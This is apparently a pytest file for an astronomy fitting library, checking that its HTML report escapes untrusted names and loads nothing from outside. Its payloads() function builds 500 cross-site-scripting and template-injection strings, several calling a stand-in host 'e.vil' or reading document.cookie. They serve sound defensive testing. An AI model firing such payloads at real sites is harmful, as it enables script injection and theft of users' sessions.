"""The report: one file that holds everything and lets nothing of the data act in the browser."""

import itertools
import re
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest
from matplotlib.figure import Figure

import bayes_astro as ba
from bayes_astro import report
from bayes_astro.diagnostics import Check, Diagnosis

VOID = {"meta", "img", "br", "hr", "link", "input"}


class Page(HTMLParser):
    """Tags with the names of their attributes, the values of the attributes, and the text."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.values, self.text, self.open, self.other = set(), set(), [], [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.add((tag, *sorted(name for name, _ in attributes)))
        self.values |= {(tag, name, value) for name, value in attributes}
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag, "tags are balanced"

    def handle_data(self, text):
        self.text.append(text)

    def handle_comment(self, text):
        self.other.append(text)

    unknown_decl = handle_pi = handle_comment

    def handle_decl(self, text):
        assert text == "doctype html"


def payloads():
    """500 ways to write something that a page must not take for its own."""
    acts = [
        "alert(1)",
        "fetch('//e.vil')",
        "document.cookie",
        "top['al'+'ert'](1)",
        "import('//e')",
    ]
    shapes = [
        "<script>{}</script>",
        "<ScRiPt >{}</sCrIpT >",
        "</title><script>{}</script>",
        "</style><script>{}</script>",
        "</pre></td></table><script>{}</script>",
        "<script\n>{}</script\n>",
        "<script/x>{}</script>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<img src=x onerror={}>",
        "<img src=x onerror='{}'>",
        '<img src="x" onerror="{}">',
        "<img/src=x/onerror={}>",
        "<svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<svg><animate onbegin={} attributeName=x>",
        "<math><mtext></p><script>{}</script>",
        "<body onload={}>",
        "<iframe src=javascript:{}>",
        '<iframe srcdoc="<script>{}</script>">',
        "<object data=javascript:{}>",
        "<embed src=javascript:{}>",
        '<a href="javascript:{}">x</a>',
        "<a href=jAvAsCrIpT:{}>x</a>",
        "<a href='data:text/html,<script>{}</script>'>x</a>",
        '<form action="javascript:{}"><button>x',
        "<input autofocus onfocus={}>",
        "<details open ontoggle={}>",
        "<video><source onerror={}></video>",
        "<marquee onstart={}>",
        "<style>@import '//e.vil';/*{}*/</style>",
        '<link rel=stylesheet href="//e.vil/{}">',
        '<meta http-equiv=refresh content="0;url=javascript:{}">',
        "<base href='//e.vil/{}'>",
        '" onmouseover="{}',
        "' onmouseover='{}",
        '"><script>{}</script>',
        "'><script>{}</script>",
        "` onload={} `",
        '" style="background:url(javascript:{})',
        "x onerror={} y",
        "--><script>{}</script><!--",
        "<!--<script>{}</script>",
        "<![CDATA[<script>{}</script>]]>",
        "]]><script>{}</script>",
        "<?xml version='1.0'?><script>{}</script>",
        "<!DOCTYPE x [<!ENTITY y '{}'>]>&y;",
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "&#x3c;script&#x3e;{}",
        "&amp;lt;script&amp;gt;{}",
        "\\u003cscript\\u003e{}",
        "%3Cscript%3E{}%3C/script%3E",
        "\u202e<script>{}</script>",
        "\uff1cscript\uff1e{}\uff1c/script\uff1e",
        "<\u200bscript>{}</script>",
        "\ufeff<script>{}</script>",
        "<script\u2028>{}</script>",
        "+ADw-script+AD4-{}+ADw-/script+AD4-",
        "{{{{{}}}}}",
        "{{% {} %}}",
        "${{{}}}",
        "#{{{}}}",
        "<%= {} %>",
        "[[${{{}}}]]",
        "{{{{constructor.constructor('{}')()}}}}",
        "__import__('os').system('{}')",
        "<template><script>{}</script></template>",
        "<noscript><p title='</noscript><img src=x onerror={}>'>",
        "<textarea></textarea><script>{}</script>",
        "<table><td background=javascript:{}>",
        "<div style='width:expression({})'>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
        "<isindex action=javascript:{} type=image>",
        "<button formaction=javascript:{}>",
        "<bgsound src=javascript:{}>",
        "<layer src=//e.vil/{}>",
        "<xss id=x tabindex=1 onfocus={}>",
        "<select><template><img src=x onerror={}>",
        "<frameset onload={}>",
        "<plaintext>{}",
        "<xmp><img src=x onerror={}>",
        "<title>{}</title>",
        "<applet code={}>",
        "<a\thref\t=\tjavascript:{}>",
        "<<script>{}//<</script>",
        "<script src=data:,{}>",
        "<script>{}",
        "<img src=x:x onerror={}//",
        "<img src='x' onerror={} alt='",
        "$$<script>{}</script>$$",
        "![x](javascript:{})",
        "[x](javascript:{})",
        "<javascript:{}>",
        "<dialog open onclose={}>",
        "<portal src=javascript:{}>",
        "<slot name=x onslotchange={}>",
        "<audio src=x onerror={}>",
        "<image src=x onerror={}>",
        "<svg/onload={}//",
        "<p id=x style=x:y onclick={}>",
    ]
    return [shape.format(act) for shape, act in itertools.product(shapes, acts)]


PAYLOADS = payloads()


def test_there_are_500_different_payloads():
    assert len({*PAYLOADS}) == len(PAYLOADS) == 500


@pytest.fixture(scope="module")
def fitted():
    rng = np.random.default_rng(8)
    t = np.sort(rng.uniform(0, 40, 30))
    m = 5 + np.cos(2 * np.pi * t / 5.5) + rng.normal(0, 0.1, 30)
    curve = ba.LightCurve(t, m, 0 * t + 0.1, band=["V"] * 30, name="star", value_unit="mag")
    model = ba.Periodogram(period=(2, 20), jitter=True).fit(curve, ba.Exact(draws=400), seed=1)
    return model, model.baseline().fit(curve)


@pytest.fixture
def no_figures(monkeypatch):
    monkeypatch.setattr(ba.Periodogram, "plot", lambda self, name: Figure())
    monkeypatch.setattr(
        report, "_image", lambda figure, name: f'<figure><img alt="{name}"></figure>'
    )


def renamed(model, text):
    """The fitted model as if the names in its data and record were `text`."""
    import copy
    import json

    again = copy.copy(model)
    again._tree = model.posterior.copy(deep=True)
    record = model.record
    record["data"] |= {"name": text, "source": text, "value_unit": None}
    record["sampler"]["settings"] = {"dict": {text: text}}
    record["priors"] = {text: {"distribution": text, text: [text], "b": {"value": 1, "unit": text}}}
    record["versions"] |= {text: text, "numpy": text}
    again._tree.attrs["bayes_astro"] = json.dumps(record)
    constant = again._tree["constant_data"].to_dataset()
    printable = "".join(filter(str.isprintable, text))  # others are refused as names of bands
    constant["band"] = ("row", np.full(constant.sizes["row"], printable))
    again._tree["constant_data"] = type(again._tree)(constant)
    posterior = again._tree["posterior"].to_dataset()
    for array in posterior.data_vars.values():
        array.attrs["units"] = text
    posterior["frequency"].attrs["units"] = ""
    posterior = posterior.assign_coords(term=[text])
    again._tree["posterior"] = type(again._tree)(posterior)
    again._tree["evidence"].attrs["note"] = text
    return again


def harmful(model, text, monkeypatch):
    """A page in which every text that can come from data, files or errors is `text`."""
    check = Check(text, False, 1.0, text, text)
    modes = pd.DataFrame([{"mass": 1.0, "period": 1.0, "sd": 0.1, "alias_of": text}])
    for name, value in {
        "diagnose": Diagnosis((check,)),
        "equation": text,
        "citations": text,
        "modes": modes,
    }.items():
        monkeypatch.setattr(ba.Periodogram, name, lambda self, value=value: value)
    again = renamed(model, text)
    return report.page(again, again, title=text)


CLASSES = {"", "n", "w", "note", "ok", "FAILED", "verdict FAILED", "scroll", "equation"}


def test_500_payloads_leave_no_live_tag(fitted, no_figures, monkeypatch):
    model, _ = fitted
    plain = Page(harmful(model, "harmless", monkeypatch))
    seen = 0
    for group in range(0, len(PAYLOADS), 5):
        # Five on end: what one leaves open, the next could use.
        text = " ".join(PAYLOADS[group : group + 5])
        page = Page(harmful(model, text, monkeypatch))
        assert page.tags == plain.tags
        assert {value for _, name, value in page.values if name == "class"} <= CLASSES
        fixed = {value for value in page.values if value[1] != "class"}
        assert fixed == {value for value in plain.values if value[1] != "class"}
        assert not page.other
        assert not page.open
        # Every name stands there for the reader, letter by letter.
        seen += "".join(page.text).count(text)
    assert seen >= len(PAYLOADS) / 5 * 20


@pytest.mark.parametrize("payload", ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>'])
def test_notebook_tables_escape_too(payload, fitted):
    check = Check(payload, False, 1.0, payload, payload)
    table = {("table", "class"), ("thead",), ("tbody",), ("tr",), ("td",), ("th",)}
    assert Page(Diagnosis((check,))._repr_html_()).tags == table
    bad = ba.LightCurve([1.0, 2.0], [1.0, 1.0], [1.0, 1.0], name=payload, value_unit=None)
    model = ba.Periodogram(period=(2, 1))
    table = ba.fit_each(model, {payload: bad}, seed=1)
    assert table["status"].tolist() == ["failed"]
    table.loc[payload, "error"] = payload
    assert not {tag for tag, *_ in Page(table._repr_html_()).tags} & {"script", "img"}
    assert payload not in ba.LinearRelation(payload)._repr_html_()


def test_names_that_utf8_cannot_hold(fitted, no_figures, tmp_path):
    report.write(fitted[0], tmp_path / "x.html", title="half a pair \ud800 and a null \0")
    assert "half a pair ? and" in (tmp_path / "x.html").read_text("utf-8")


@pytest.fixture(scope="module")
def real(fitted, tmp_path_factory):
    path = tmp_path_factory.mktemp("report") / "report.html"
    report.write(fitted[0], path, fitted[1], title="A star")
    return path.read_text("utf-8")


def test_one_file_that_loads_nothing(real):
    page = Page(real)
    sources = [
        value for _, name, value in page.values if name in ("src", "href", "srcset", "action")
    ]
    assert sources
    assert all(source.startswith("data:image/png;base64,") for source in sources)
    assert not re.search(r"url\(|@import|<script|<link|<iframe", real)
    (policy,) = [v for tag, name, v in page.values if tag == "meta" and "default-src" in (v or "")]
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'")
    assert not page.open
    assert not page.other


def test_it_says_what_a_reader_needs(fitted, real):
    model, baseline = fitted
    text = " ".join(Page(real).text)
    record = model.record
    for expected in (
        "A star",
        model.equation(),
        "HalfNormal(sigma=",
        "R-hat",
        "68% interval",
        "log Bayes factor",
        "goodness of fit",
        f"Beside {type(baseline).__name__}",
        "Exact(draws=400)",
        record["versions"]["numpy"],
        "{bretthorst1988,",
    ):
        assert expected in text, expected
    for name in model.summary().index:
        assert name in text
    assert real.count("<img") == sum(figure in report.FIGURES for figure in model.figure_names())


def test_the_verdict_is_on_top(fitted, no_figures, monkeypatch):
    model, _ = fitted
    checks = Diagnosis((Check("R-hat", False, 1.2, "draw more", "1.01"),))
    monkeypatch.setattr(ba.Periodogram, "diagnose", lambda self: checks)
    text = Page(report.page(model)).text
    (top, *_) = [i for i, part in enumerate(text) if "Do not trust this fit yet: R-hat." in part]
    assert top < text.index("What was fitted")


@pytest.mark.parametrize(
    "value, error, expected",
    [
        (4.191164, 0.000046, "4.191164"),
        (4.191164, 0.0021, "4.1912"),
        (-0.5, 0.02, "-0.500"),
        (123456.7, 3210.0, "123500"),
        (9.96, 0.0996, "9.960"),
        (0.0, 0.02, "0.000"),
        (1.23456e-7, 2e-9, "1.235e-07"),
        (2.5e9, 1e7, "2.500e+09"),
        (1.23456789, 0.0, "1.23457"),
        (1.23456789, np.nan, "1.23457"),
        (np.nan, 1.0, "nan"),
        (np.inf, 1.0, "inf"),
        (3.0, np.inf, "3"),
    ],
)
def test_numbers_are_rounded_to_the_second_digit_of_their_error(value, error, expected):
    assert report.rounded(value, error) == expected
